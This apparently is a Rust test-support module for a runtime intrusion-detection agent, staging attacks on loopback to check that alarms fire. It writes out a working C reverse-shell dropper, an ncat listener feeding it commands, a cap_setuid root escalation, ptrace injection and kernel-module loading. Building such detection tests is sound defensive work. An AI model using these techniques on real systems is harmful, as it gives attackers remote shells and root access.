//! Pieces the runtime-detection tests share: an agent with its sensor on, watching a victim
//! namespace for scans; alarms of a type waited for at the center; a small reverse-shell dropper
//! compiled from C. Every attack here targets loopback or the test's own namespaces.

use std::path::{Path, PathBuf};
use std::time::Instant;

use anyhow::{Result, anyhow, ensure};
use serde_json::Value;

use crate::lab::Netns;
use crate::*;

/// An enrolled agent with its runtime sensor at `sensor` (`auto` or `proc`) and its system-call
/// events on (every detector runs, so the normal workload is checked against all of them), its
/// firewall and scan watch in the victim namespace, no auth logs; running and online when this
/// returns.
pub async fn behaviour_agent(
    env: &TestEnv,
    center: &Center,
    n: &Netns,
    label: &str,
    sensor: &'static str,
) -> Result<Agent> {
    let token = center.create_token(&["--name", label]).await?;
    let mut agent = Agent::new(env, label);
    agent.enroll(env, center, &token.secret).await?;
    agent.sensor = sensor;
    let toml = format!(
        "state_dir = {:?}\n\n[authlog]\nsource = \"files\"\n\n[authlog.ssh]\nenabled = false\n\n[authlog.ftp]\nenabled = false\n\n[authlog.mysql]\nenabled = false\n\n[behaviour]\nnetns = {:?}\nsyscall_events = true\n\n{}",
        agent.state_dir.display().to_string(),
        n.victim,
        n.firewall_toml(&[22])
    );
    std::fs::write(agent.dir.join("agent.toml"), toml)?;
    crate::lab::run_lab_agent(env, &mut agent)?;
    center
        .api()
        .wait_status(&agent.server_id, "online", None, secs(30))
        .await?;
    // The sensor reports its tier in the heartbeat once it runs.
    wait_until(
        "the sensor's first report",
        secs(30),
        millis(200),
        || async {
            let s = center.api().server_detail(&agent.server_id).await?;
            let tier = server_of(&s)["heartbeat"]["sensor"]["tier"]
                .as_str()
                .unwrap_or("");
            ensure!(
                tier == sensor || (sensor == "auto" && (tier == "bpf" || tier == "lsm")),
                "tier {tier:?}"
            );
            Ok(())
        },
    )
    .await?;
    Ok(agent)
}

/// The first alarm of `alarm_type` on `server` that `pick` accepts, waiting up to 90 s (cron
/// runs its jobs on the minute). Returns the alarm's detail (with evidence).
pub async fn wait_behaviour_alarm(
    api: &Api,
    server: &str,
    alarm_type: &str,
    what: &str,
    pick: impl Fn(&Value) -> bool,
) -> Result<Value> {
    crate::lab::wait_alarm_where(
        api,
        &format!("type={alarm_type}&server={server}"),
        &format!("a {alarm_type} alarm for {what}"),
        secs(90),
        pick,
    )
    .await
}

/// All alarms of a server, as the API lists them.
pub async fn alarms_of(api: &Api, server: &str) -> Result<Vec<Value>> {
    let r = api
        .get(&format!("/api/v1/alarms?server={server}&per_page=200"))
        .await?
        .expect(200)?;
    Ok(r.json["items"].as_array().cloned().unwrap_or_default())
}

/// The executables of an alarm's process chain, nearest first.
pub fn chain_exes(alarm: &Value) -> Vec<String> {
    alarm["evidence"]["processes"]
        .as_array()
        .into_iter()
        .flatten()
        .map(|p| p["exe"].as_str().unwrap_or("").to_string())
        .collect()
}

/// The pids of an alarm's process chain, nearest first.
pub fn chain_pids(alarm: &Value) -> Vec<i64> {
    alarm["evidence"]["processes"]
        .as_array()
        .into_iter()
        .flatten()
        .filter_map(|p| p["pid"].as_i64())
        .collect()
}

/// Seconds from `start` to the agent's conclusion (the alarm's first_seen), which the issue
/// bounds at 5 s; the alarm's arrival at the center is not part of it.
pub fn detection_secs(alarm: &Value, start_unix: i64) -> i64 {
    alarm["first_seen"].as_i64().unwrap_or(i64::MAX) - start_unix
}

pub fn unix_now() -> i64 {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map(|d| d.as_secs() as i64)
        .unwrap_or(0)
}

/// A reverse-shell dropper: connects to ADDR PORT, then runs `/bin/sh -i` on the connection
/// in a child and waits for it, as droppers do (so the dropper, not the shell, is the program
/// to isolate). Compiled with the system C compiler into `dir`.
pub async fn build_dropper(dir: &Path) -> Result<PathBuf> {
    let src = dir.join("dropper.c");
    std::fs::write(
        &src,
        r#"#include <arpa/inet.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>
int main(int argc, char **argv) {
    if (argc < 3) return 2;
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in a = {0};
    a.sin_family = AF_INET;
    a.sin_port = htons(atoi(argv[2]));
    inet_pton(AF_INET, argv[1], &a.sin_addr);
    if (connect(s, (struct sockaddr *)&a, sizeof a) != 0) return 3;
    pid_t p = fork();
    if (p == 0) {
        dup2(s, 0); dup2(s, 1); dup2(s, 2);
        execl("/bin/sh", "sh", "-i", (char *)0);
        return 4;
    }
    int st;
    waitpid(p, &st, 0);
    return 0;
}
"#,
    )?;
    let bin = dir.join("dropper");
    let out = run_cmd(
        Path::new("cc"),
        &[
            "-O2",
            "-o",
            &bin.display().to_string(),
            &src.display().to_string(),
        ]
        .map(String::from),
        None,
    )
    .await?;
    ensure!(out.success(), "compiling the dropper: {out}");
    Ok(bin)
}

/// A TCP listener on loopback (`ncat -l ADDR PORT`) that sends `script` once connected and keeps
/// the connection `hold_secs`; listening when this returns, killed when dropped.
pub async fn listener(
    env: &TestEnv,
    dir: &Path,
    addr: &str,
    port: u16,
    script: &str,
    hold_secs: u32,
) -> Result<Proc> {
    let mut cmd = command("sh");
    cmd.arg("-c").arg(format!(
        "(sleep 1; printf '{script}\\n'; sleep {hold_secs}) | timeout {} ncat -l {addr} {port}",
        hold_secs + 30
    ));
    let p = Proc::spawn(
        env,
        &format!("listener[{port}]"),
        cmd,
        dir,
        &format!("listener-{port}"),
    )?;
    // A probe connection would be the listener's one client: read the socket table instead.
    let want = format!(":{port:04X} 00000000:0000 0A");
    host_until(&format!("port {port} to listen"), || {
        std::fs::read_to_string("/proc/net/tcp").is_ok_and(|t| t.contains(&want))
    })
    .await?;
    Ok(p)
}

/// Runs `script` with `sh -c` in a new session, in the background; killed when dropped.
pub fn attack(env: &TestEnv, dir: &Path, label: &str, script: &str) -> Result<(Proc, i64)> {
    let mut cmd = command("setsid");
    cmd.args(["sh", "-c", script]);
    let start = unix_now();
    Ok((Proc::spawn(env, label, cmd, dir, label)?, start))
}

/// The host's cron when it runs, else one of our own (no systemd in some CI containers),
/// killed when dropped.
pub async fn cron(env: &TestEnv, dir: &Path) -> Result<Option<Proc>> {
    let running = run_cmd(Path::new("pgrep"), &["-x".into(), "cron".into()], None).await?;
    if running.success() {
        return Ok(None);
    }
    let mut c = command("/usr/sbin/cron");
    c.arg("-f");
    Ok(Some(Proc::spawn(env, "cron", c, dir, "cron")?))
}

/// Changes the behaviour policy of `server`'s project through the API (`edit` gets its JSON).
pub async fn set_policy(api: &Api, server: &str, edit: impl FnOnce(&mut Value)) -> Result<()> {
    let project = server_of(&api.server_detail(server).await?)["project_id"]
        .as_str()
        .unwrap_or("")
        .to_string();
    let uri = format!("/api/v1/projects/{project}/behaviour-policy");
    let mut policy = api.get(&uri).await?.expect(200)?.json["policy"].clone();
    edit(&mut policy);
    api.put(&uri, policy).await?.expect(200)?;
    Ok(())
}

/// Waits until `f` holds or 30 s pass, for conditions on the host (a process gone, a file back).
pub async fn host_until(what: &str, f: impl Fn() -> bool) -> Result<()> {
    let start = Instant::now();
    while start.elapsed() < secs(30) {
        if f() {
            return Ok(());
        }
        tokio::time::sleep(millis(100)).await;
    }
    Err(anyhow!("timed out waiting for {what}"))
}

/// Root by a set*id call with no exec: nobody runs a copy of python3 holding `cap_setuid+ep`
/// (in `dir`, which nobody must be able to read) that calls `os.setuid(0)` and then only
/// sleeps, the GTFOBins way. Returns its `process_privilege_escalation` alarm, raised within
/// 5 s.
pub async fn cap_setuid_escalation(
    env: &TestEnv,
    dir: &Path,
    api: &Api,
    server: &str,
) -> Result<Value> {
    let py = dir.join("capy");
    std::fs::copy("/usr/bin/python3", &py)?;
    let args = ["cap_setuid+ep".to_string(), py.display().to_string()];
    run_cmd(Path::new("setcap"), &args, None).await?.ok()?;
    let script = format!(
        "su nobody -s /bin/sh -c '{} -c \"import os, time; os.setuid(0); time.sleep(2)\"'",
        py.display()
    );
    let (_a, t) = attack(env, dir, "cap-setuid", &script)?;
    let a = wait_behaviour_alarm(
        api,
        server,
        "process_privilege_escalation",
        "setuid(0) by cap_setuid",
        |a| a["evidence"]["file"].as_str() == py.to_str(),
    )
    .await?;
    ensure!(detection_secs(&a, t) <= 5, "{a}");
    Ok(a)
}

/// The script of a process attaching with ptrace to the pid in its argument, then letting go.
const PTRACE_ATTACH_PY: &str = "import ctypes, sys, time\nlibc = ctypes.CDLL(None, use_errno=True)\npid = int(sys.argv[1])\nr = libc.ptrace(16, pid, 0, 0)\nprint('attach', pid, r, ctypes.get_errno(), flush=True)\ntime.sleep(1)\nlibc.ptrace(17, pid, 0, 0)\n";

/// A python process attaching with ptrace to a `sleep` the test itself started (so no attack
/// script is its ancestor). Returns the `process_injection` alarm naming that pid, raised
/// within 5 s.
pub async fn ptrace_injection(env: &TestEnv, dir: &Path, api: &Api, server: &str) -> Result<Value> {
    let mut c = command("sleep");
    c.arg("30");
    let victim = Proc::spawn(env, "sleeper", c, dir, "sleeper")?;
    let inject = dir.join("inject.py");
    std::fs::write(&inject, PTRACE_ATTACH_PY)?;
    let script = format!("/usr/bin/python3 {} {}", inject.display(), victim.pid());
    let (_a, t) = attack(env, dir, "ptrace", &script)?;
    let a = wait_behaviour_alarm(api, server, "process_injection", "ptrace attach", |a| {
        a["evidence"]["details"]
            .to_string()
            .contains(&format!("(pid {})", victim.pid()))
    })
    .await?;
    ensure!(detection_secs(&a, t) <= 5, "{a}");
    Ok(a)
}

/// The script of a process asking the kernel to load the module file in its argument
/// (`finit_module`), printing the errno it got.
pub const FINIT_MODULE_PY: &str = "import ctypes, os, sys\nlibc = ctypes.CDLL(None, use_errno=True)\nfd = os.open(sys.argv[1], os.O_RDONLY)\nprint('finit_module', libc.syscall(313, fd, b'', 0), ctypes.get_errno(), flush=True)\n";
